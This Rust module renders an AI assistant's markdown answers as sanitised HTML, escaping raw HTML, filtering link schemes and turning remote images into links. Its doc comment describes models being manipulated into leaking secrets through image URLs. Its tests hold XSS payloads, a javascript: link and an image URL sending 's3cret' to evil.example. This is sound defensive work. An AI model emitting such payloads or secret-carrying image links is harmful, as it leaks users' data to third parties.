//! Answers rendered as HTML from markdown (CommonMark with tables, strikethrough and task
//! lists), made safe to put in the page:
//!
//! - raw HTML in the text is shown as text, never parsed by the browser;
//! - links keep only `http:`, `https:`, `mailto:` and in-page targets, and open in a new tab;
//! - images never load from the network: a model can be talked into writing
//!   `![](https://elsewhere/?q=<secret>)`, so an image is shown as a link to click instead.
//!   Inline `data:image/…` images (which go nowhere) are shown;
//! - fenced code blocks are highlighted ([`super::highlight`]) and get a copy button, found by
//!   the page through `data-copy`.

use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd};

use super::highlight;

/// `text` as HTML.
pub fn to_html(text: &str) -> String {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut events = Vec::new();
    let mut code: Option<(String, String)> = None; // (language, text) of the open code block
    let mut images: Vec<bool> = Vec::new(); // for each open image: whether it became a link
    for event in Parser::new_ext(text, options) {
        match event {
            Event::Start(Tag::CodeBlock(kind)) => {
                let lang = match kind {
                    CodeBlockKind::Fenced(info) => info
                        .split(|c: char| c.is_whitespace() || c == ',')
                        .next()
                        .unwrap_or("")
                        .to_owned(),
                    CodeBlockKind::Indented => String::new(),
                };
                code = Some((lang, String::new()));
            }
            Event::Text(t) if code.is_some() => {
                if let Some((_, body)) = code.as_mut() {
                    body.push_str(&t);
                }
            }
            Event::End(TagEnd::CodeBlock) => {
                if let Some((lang, body)) = code.take() {
                    events.push(Event::Html(code_block(&lang, &body).into()));
                }
            }
            Event::Html(raw) | Event::InlineHtml(raw) => events.push(Event::Text(raw)),
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                title,
                id,
            }) => {
                events.push(Event::Start(Tag::Link {
                    link_type,
                    dest_url: safe_url(dest_url),
                    title,
                    id,
                }));
            }
            Event::Start(Tag::Image {
                link_type,
                dest_url,
                title,
                id,
            }) => {
                let inline = dest_url.starts_with("data:image/");
                images.push(!inline);
                events.push(Event::Start(if inline {
                    Tag::Image {
                        link_type,
                        dest_url,
                        title,
                        id,
                    }
                } else {
                    Tag::Link {
                        link_type,
                        dest_url: safe_url(dest_url),
                        title,
                        id,
                    }
                }));
            }
            Event::End(TagEnd::Image) => {
                events.push(Event::End(if images.pop().unwrap_or(false) {
                    TagEnd::Link
                } else {
                    TagEnd::Image
                }))
            }
            other => events.push(other),
        }
    }
    // A code block still streaming in has no end yet.
    if let Some((lang, body)) = code {
        events.push(Event::Html(code_block(&lang, &body).into()));
    }
    let mut html = String::with_capacity(text.len() * 3 / 2);
    pulldown_cmark::html::push_html(&mut html, events.into_iter());
    html.replace(
        "<a href=",
        "<a target=\"_blank\" rel=\"noopener noreferrer nofollow\" href=",
    )
}

fn safe_url(url: CowStr) -> CowStr {
    let lower = url.trim_start().to_ascii_lowercase();
    let allowed = ["http://", "https://", "mailto:", "#"]
        .iter()
        .any(|p| lower.starts_with(p));
    if allowed {
        url
    } else {
        CowStr::Borrowed("#")
    }
}

fn code_block(lang: &str, body: &str) -> String {
    format!(
        "<div class=\"code\"><div class=\"code-bar\"><span>{}</span><button type=\"button\" class=\"copy\" data-copy=\"\">Copy</button></div><pre><code>{}</code></pre></div>",
        highlight::escape(lang),
        highlight::to_html(lang, body)
    )
}

#[cfg(test)]
mod tests {
    use super::to_html;

    #[test]
    fn markdown_becomes_html() {
        let html =
            to_html("# Title\n\nSome **bold** and `code`.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n");
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"));
        assert!(html.contains("<code>code</code>"));
        assert!(html.contains("<table>"));
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        let html = to_html("hello <script>alert(1)</script> <img src=x onerror=alert(1)>\n\n<div onclick=x>block</div>");
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("<img"), "{html}");
        assert!(!html.contains("<div onclick"), "{html}");
        assert!(html.contains("&lt;script&gt;"));
    }

    #[test]
    fn only_safe_links_survive_and_remote_images_never_load() {
        let html = to_html("[a](javascript:alert(1)) [b](https://example.com) ![secret](https://evil.example/?q=s3cret)");
        assert!(!html.contains("javascript:"), "{html}");
        assert!(
            html.contains(
                r#"target="_blank" rel="noopener noreferrer nofollow" href="https://example.com""#
            ),
            "{html}"
        );
        assert!(!html.contains("<img"), "{html}");
        assert!(
            html.contains(r#"href="https://evil.example/?q=s3cret">secret</a>"#),
            "{html}"
        );
        let inline = to_html("![dot](data:image/png;base64,iVBORw0KGgo=)");
        assert!(
            inline.contains("<img src=\"data:image/png;base64,iVBORw0KGgo=\""),
            "{inline}"
        );
    }

    #[test]
    fn code_blocks_are_highlighted_with_a_copy_button_even_while_still_streaming() {
        let html = to_html("```rust\nfn main() { let s = \"<b>\"; }\n```\n");
        assert!(
            html.contains(
                r#"<span>rust</span><button type="button" class="copy" data-copy="">Copy</button>"#
            ),
            "{html}"
        );
        assert!(html.contains(r#"<span class="tk">fn</span>"#), "{html}");
        assert!(
            html.contains(r#"<span class="ts">&quot;&lt;b&gt;&quot;</span>"#),
            "{html}"
        );
        let open = to_html("Here:\n\n```python\nprint('hi')");
        assert!(
            open.contains(r#"<span class="ts">&#39;hi&#39;</span>"#),
            "{open}"
        );
    }
}
